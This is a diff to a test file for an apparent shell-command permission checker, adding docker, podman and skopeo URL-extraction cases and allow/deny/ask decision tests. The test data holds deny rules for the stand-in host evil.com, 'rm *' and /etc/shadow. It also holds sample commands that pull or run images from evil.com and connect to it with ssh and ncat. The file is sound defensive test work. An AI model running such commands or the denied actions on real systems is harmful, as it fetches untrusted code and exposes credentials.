@@ -67,6 +67,16 @@ describe('package managers', () => {
     ['docker run --rm -p 8080:80 evil.com:5000/app', ['https://evil.com:5000/']],
     ['docker login evil.com', ['https://evil.com/']],
     ['podman pull docker://evil.com/x', ['docker://evil.com/']],
+    // An expansion that may be the image of a subcommand that reaches a registry (`docker pull $IMG`
+    // was allowed beside Domain(evil.com)); option values and other subcommands are not images.
+    ['docker pull $IMG', ['?$IMG']],
+    ['docker run --rm -e A=1 "$IMG" ls', ['?$IMG']],
+    ['docker --context prod image pull $I', ['?$I']],
+    ['docker -H ssh://h container create $I', ['ssh://h/', '?$I']],
+    ['skopeo inspect $REF', ['?$REF']],
+    ['docker run -v $V:/x --name $N nginx ls $X', []],
+    ['docker logs $C', []],
+    ['docker tag $A $B', []],
   ])('%s', (line, expected) => {
     expect(urls(line)).toEqual(expected);
   });
@@ -99,7 +109,7 @@ describe('what socket tools open and run', () => {
 describe('decisions', () => {
   const rules = {
     deny: ['Domain(evil.com)', 'Shell(rm *)', 'Read(//etc/shadow)'],
-    allow: ['Shell(ssh *)', 'Shell(scp *)', 'Shell(rsync *)', 'Shell(nc *)', 'Shell(socat *)', 'Shell(openssl *)', 'Shell(pip *)', 'Shell(npm *)', 'Shell(ncat *)', 'Shell(sshfs *)', 'Domain(github.com)'],
+    allow: ['Shell(ssh *)', 'Shell(scp *)', 'Shell(rsync *)', 'Shell(nc *)', 'Shell(socat *)', 'Shell(openssl *)', 'Shell(pip *)', 'Shell(npm *)', 'Shell(ncat *)', 'Shell(sshfs *)', 'Shell(docker *)', 'Domain(github.com)'],
   };
   const cases: [string, DecisionKind][] = [
     ['ssh u@evil.com', 'deny'],
@@ -146,6 +156,9 @@ describe('decisions', () => {
     // Options by their letter grammar (long-options.ts letterGrammar): a unique prefix of a long one.
     ['ncat --prox evil.com:8080 github.com 80', 'deny'],
     ['nc -zv github.com 443', 'allow'],
+    ['docker pull $IMG', 'ask'],
+    ['docker --context prod pull evil.com/x', 'deny'],
+    ['docker logs $C', 'allow'],
   ];
   it.each(cases)('%s: %s', (line, expected) => {
     expectDecision(rules, 'shell', line, expected);
